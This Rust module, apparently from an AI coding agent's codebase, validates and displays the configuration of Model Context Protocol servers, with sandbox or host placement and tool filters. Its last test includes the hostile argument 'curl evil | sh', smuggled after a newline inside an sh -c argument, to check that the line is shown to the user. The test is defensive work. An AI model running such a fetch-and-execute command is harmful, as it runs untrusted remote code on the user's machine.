use std::collections::BTreeMap;

use serde::Deserialize;
use serde::Serialize;

use super::http::Address;
use super::http::invalid_header;
use podbay_event::Seconds;

/// Most servers of a session: each holds a call of the sandbox for as long as it runs.
const MOST_SERVERS: usize = 16;

/// Longest name of a server: it is part of the name of each of its tools.
const LONGEST_NAME: usize = 24;

/// Servers of the Model Context Protocol: the section `[mcp]`.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(default)]
pub struct Options {
    /// Servers by name: `[mcp.servers.NAME]` with `command` and, as wanted, `args`, `env`, `cwd`,
    /// `enabled`, `timeout`, `tools.allow` and `tools.deny`. They run in the sandbox, unless
    /// `where` is `host`. One with `url` instead of `command` is reached over HTTP, through the
    /// gateway; `bearer_token_env` and `headers_env` name variables with its keys.
    pub servers: BTreeMap<String, ServerOptions>,
    /// How long a server may take to start and to list its tools.
    pub start_timeout: Seconds,
}

/// One server.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(default)]
pub struct ServerOptions {
    /// The program, found where the server runs.
    pub command: String,
    pub args: Vec<String>,
    /// Variables in addition to those of every command in the sandbox, or of the user on the host.
    pub env: BTreeMap<String, String>,
    /// Its working directory, as a path from the project's folder. Without it, that folder, or on
    /// the host the user's home folder.
    pub cwd: Option<String>,
    /// The address of a server over HTTP, which is not started and has no `command`.
    pub url: Option<String>,
    /// The variable that holds the token of the header `Authorization: Bearer`.
    pub bearer_token_env: Option<String>,
    /// Headers by name, each with the variable that holds its value.
    pub headers_env: BTreeMap<String, String>,
    /// Where it runs: `sandbox` or `host`.
    #[serde(rename = "where")]
    pub place: ServerPlace,
    pub enabled: bool,
    /// Which of its tools are offered.
    pub tools: ToolFilter,
    /// How long one call may take.
    pub timeout: Seconds,
}

/// Where a server runs.
#[derive(
    Clone, Copy, Debug, Default, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema,
)]
#[serde(rename_all = "snake_case")]
pub enum ServerPlace {
    /// In the sandbox of the session.
    #[default]
    Sandbox,
    /// On the user's machine, as the user.
    Host,
}

/// Tools by the names that the server gives them; a `*` at the end stands for any rest.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(default)]
pub struct ToolFilter {
    /// Only these; without any all of them.
    pub allow: Vec<String>,
    /// None of these.
    pub deny: Vec<String>,
}

impl Default for Options {
    fn default() -> Self {
        Self {
            servers: BTreeMap::new(),
            start_timeout: Seconds::new(20),
        }
    }
}

impl Default for ServerOptions {
    fn default() -> Self {
        Self {
            command: String::new(),
            args: Vec::new(),
            env: BTreeMap::new(),
            cwd: None,
            url: None,
            bearer_token_env: None,
            headers_env: BTreeMap::new(),
            place: ServerPlace::default(),
            enabled: true,
            tools: ToolFilter::default(),
            timeout: Seconds::new(60),
        }
    }
}

impl Options {
    /// Returns the keys whose values cannot be used, relative to `mcp`, each with the reason.
    pub fn mistakes(&self) -> Vec<(String, String)> {
        let mut mistakes = Vec::new();
        if self.servers.len() > MOST_SERVERS {
            mistakes.push((
                "servers".to_owned(),
                format!(
                    "{} servers are more than the {MOST_SERVERS} that a session can have",
                    self.servers.len()
                ),
            ));
        }
        for (name, server) in &self.servers {
            if let Some(what) = invalid_name(name) {
                mistakes.push((format!("servers.{name}"), what));
            } else if let Some((key, what)) = server.mistake() {
                mistakes.push((format!("servers.{name}.{key}"), what));
            }
        }
        mistakes
    }
}

impl ServerOptions {
    /// Returns the field that cannot be used, with the reason.
    pub(super) fn mistake(&self) -> Option<(&'static str, String)> {
        if self.timeout.get() == 0 {
            return Some((
                "timeout",
                "it leaves no time: give it at least 1 s".to_owned(),
            ));
        }
        if self.url.is_some() {
            return self.mistake_over_http();
        }
        if self.has_keys() {
            return Some((
                "url",
                "keys in headers are for a server with an address".to_owned(),
            ));
        }
        let has_nul = |text: &String| text.contains('\0');
        if self.command.trim().is_empty() {
            return Some((
                "command",
                "it is empty: name the program that is the server".to_owned(),
            ));
        }
        // A path from the working directory could be a file of the project.
        if self.is_on_host() && self.command.contains('/') && !self.command.starts_with('/') {
            return Some((
                "command",
                "on the host it is the name of a program in your PATH, or an absolute path"
                    .to_owned(),
            ));
        }
        if has_nul(&self.command) || self.args.iter().any(has_nul) {
            return Some(("args", "a NUL cannot be in an argument".to_owned()));
        }
        let is_variable =
            |name: &String| !name.is_empty() && !name.contains('=') && !name.contains('\0');
        if !self.env.keys().all(is_variable) || self.env.values().any(has_nul) {
            return Some(("env", "a variable has no valid name or value".to_owned()));
        }
        if self.cwd.as_ref().is_some_and(has_nul) {
            return Some(("cwd", "a NUL cannot be in a path".to_owned()));
        }
        None
    }

    fn mistake_over_http(&self) -> Option<(&'static str, String)> {
        let is_program = !self.command.is_empty()
            || !self.args.is_empty()
            || !self.env.is_empty()
            || self.cwd.is_some();
        if is_program || self.is_on_host() {
            return Some((
                "url",
                "a server with an address is not started: it has no `command`, `args`, `env`, `cwd` or `where`"
                    .to_owned(),
            ));
        }
        let address = match Address::parse(self.url.as_deref().unwrap_or_default()) {
            Ok(address) => address,
            Err(what) => return Some(("url", what)),
        };
        if address.is_plain() && self.has_keys() {
            return Some((
                "url",
                "without TLS no key is sent: write https://".to_owned(),
            ));
        }
        if let Some(what) = self
            .headers_env
            .keys()
            .find_map(|name| invalid_header(name))
        {
            return Some(("headers_env", what));
        }
        let is_variable = |name: &String| {
            !name.is_empty()
                && name
                    .bytes()
                    .all(|byte| byte.is_ascii_alphanumeric() || byte == b'_')
        };
        let what = "it holds the name of a variable, not a key".to_owned();
        if !self.headers_env.values().all(is_variable) {
            return Some(("headers_env", what));
        }
        if !self.bearer_token_env.iter().all(is_variable) {
            return Some(("bearer_token_env", what));
        }
        None
    }

    /// Returns whether variables of the user hold keys for it.
    pub fn has_keys(&self) -> bool {
        self.bearer_token_env.is_some() || !self.headers_env.is_empty()
    }

    /// Returns the names of the variables that hold keys for it.
    pub fn key_variables(&self) -> impl Iterator<Item = &String> {
        self.headers_env.values().chain(&self.bearer_token_env)
    }

    /// Returns whether it runs on the user's machine.
    pub fn is_on_host(&self) -> bool {
        self.place == ServerPlace::Host
    }

    /// Returns the whole command line, or the address, with what it adds to the environment, as a user
    /// decides on it: a word that holds more than plain letters stands in quotation marks.
    pub fn whole_command_line(&self) -> String {
        let quoted = |word: &str| {
            let is_plain = |c: char| c.is_ascii_graphic() && !matches!(c, '"' | '\\');
            if !word.is_empty() && word.chars().all(is_plain) {
                word.to_owned()
            } else {
                format!("\"{}\"", word.escape_debug())
            }
        };
        let env = self
            .env
            .iter()
            .map(|(name, value)| format!("{name}={}", quoted(value)));
        let words = match &self.url {
            Some(url) => vec![quoted(url)],
            None => std::iter::once(&self.command)
                .chain(&self.args)
                .map(|word| quoted(word))
                .collect(),
        };
        env.chain(words).collect::<Vec<_>>().join(" ")
    }

    /// Returns the command line in words, or the address.
    pub fn command_line(&self) -> String {
        if let Some(url) = &self.url {
            return super::plain_line(url, 300);
        }
        let words = std::iter::once(&self.command).chain(&self.args);
        words
            .map(|word| super::plain_line(word, 200))
            .collect::<Vec<_>>()
            .join(" ")
    }
}

impl ToolFilter {
    /// Returns whether a tool of this name is offered.
    pub(super) fn lets(&self, tool: &str) -> bool {
        let names = |patterns: &[String]| patterns.iter().any(|pattern| matches(pattern, tool));
        (self.allow.is_empty() || names(&self.allow)) && !names(&self.deny)
    }
}

fn matches(pattern: &str, tool: &str) -> bool {
    match pattern.strip_suffix('*') {
        Some(begin) => tool.starts_with(begin),
        None => pattern == tool,
    }
}

/// Returns why a server cannot have this name.
pub(super) fn invalid_name(name: &str) -> Option<String> {
    let is_plain = |byte: u8| byte.is_ascii_alphanumeric() || byte == b'-' || byte == b'_';
    if name.is_empty() || name.len() > LONGEST_NAME || !name.bytes().all(is_plain) {
        return Some(format!(
            "a server's name has 1 to {LONGEST_NAME} letters, digits, `-` and `_`"
        ));
    }
    // Two underscores separate it from the tool in `mcp__SERVER__TOOL`.
    (name.contains("__") || name.starts_with('_') || name.ends_with('_'))
        .then(|| "a server's name has no `_` at its ends and no `__`".to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[track_caller]
    fn check(text: &str, key: &str) {
        let options: Options = toml::from_str(text).expect("a section");
        let keys: Vec<String> = options.mistakes().into_iter().map(|(key, _)| key).collect();
        assert_eq!(keys, [key], "{text}");
    }

    #[test]
    fn a_server_that_cannot_be_started_is_a_mistake_of_its_key() {
        check("[servers.a]\n", "servers.a.command");
        check(
            "[servers.a]\ncommand = 'x'\ntimeout = 0",
            "servers.a.timeout",
        );
        check(
            "[servers.a]\ncommand = 'x'\nargs = ['a\\u0000']"
                .replace("'a\\u0000'", "\"a\\u0000\"")
                .as_str(),
            "servers.a.args",
        );
        check(
            "[servers.a]\ncommand = 'x'\nenv = { 'A=B' = '1' }",
            "servers.a.env",
        );
        check(
            "[servers.a]\ncommand = 'bin/x'\nwhere = 'host'",
            "servers.a.command",
        );
        for (text, key) in [
            ("url = 'mcp.example'", "url"),
            ("url = 'https://127.0.0.1/mcp'", "url"),
            ("url = 'https://u:p@mcp.example/'", "url"),
            ("url = 'https://mcp.example/'\ncommand = 'x'", "url"),
            ("url = 'https://mcp.example/'\nwhere = 'host'", "url"),
            ("url = 'http://mcp.example/'\nbearer_token_env = 'A'", "url"),
            ("command = 'x'\nbearer_token_env = 'A'", "url"),
            (
                "url = 'https://mcp.example/'\nbearer_token_env = 'ghp-1'",
                "bearer_token_env",
            ),
            (
                "url = 'https://mcp.example/'\nheaders_env = { Host = 'A' }",
                "headers_env",
            ),
            (
                "url = 'https://mcp.example/'\nheaders_env = { X-Key = 'a b' }",
                "headers_env",
            ),
        ] {
            check(&format!("[servers.a]\n{text}"), &format!("servers.a.{key}"));
        }
        for name in ["a__b", "_a", "a_", "'a b'", "'../a'"] {
            check(
                &format!("[servers.{name}]\ncommand = 'x'"),
                &format!("servers.{}", name.trim_matches('\'')),
            );
        }
        for fine in [
            "[servers.a-b_c]\ncommand = 'x'\ntools.deny = ['write_*']",
            "[servers.a]\ncommand = 'bin/x'\nwhere = 'sandbox'",
            "[servers.a]\ncommand = 'x'\nwhere = 'host'",
            "[servers.a]\ncommand = '/opt/x'\nwhere = 'host'",
            "[servers.a]\nurl = 'http://host.docker.internal:8080/mcp'",
            "[servers.a]\nurl = 'https://mcp.example/mcp'\nbearer_token_env = 'A_B'\nheaders_env = { X-Key = 'C' }",
        ] {
            let options: Options = toml::from_str(fine).expect(fine);
            assert_eq!(options.mistakes(), [], "{fine}");
        }
        toml::from_str::<Options>("[servers.a]\ncommand = 'x'\nwhere = 'moon'")
            .expect_err("no such place");
    }

    #[test]
    fn a_filter_names_tools_or_their_beginnings() {
        let filter = |allow: &[&str], deny: &[&str]| ToolFilter {
            allow: allow.iter().map(|&name| name.to_owned()).collect(),
            deny: deny.iter().map(|&name| name.to_owned()).collect(),
        };
        assert!(filter(&[], &[]).lets("a"));
        assert!(filter(&["git_*"], &["git_push"]).lets("git_log"));
        assert!(!filter(&["git_*"], &["git_push"]).lets("git_push"));
        assert!(!filter(&["git_*"], &[]).lets("push"));
        assert!(!filter(&["*"], &["*"]).lets("a"));
    }

    #[test]
    fn what_a_user_enables_is_shown_whole_and_each_word_for_itself() {
        let options = ServerOptions {
            command: "sh".to_owned(),
            args: vec![
                "-c".to_owned(),
                "good\ncurl evil | sh".to_owned(),
                format!("{}TAIL", " ".repeat(300)),
            ],
            env: BTreeMap::from([("PATH".to_owned(), "a".repeat(300) + "END")]),
            ..ServerOptions::default()
        };
        let shown = options.whole_command_line();
        assert!(
            shown.contains(r#"sh -c "good\ncurl evil | sh" ""#),
            "{shown}"
        );
        assert!(
            shown.contains("aEND ") && shown.ends_with("TAIL\""),
            "{shown}"
        );
    }
}
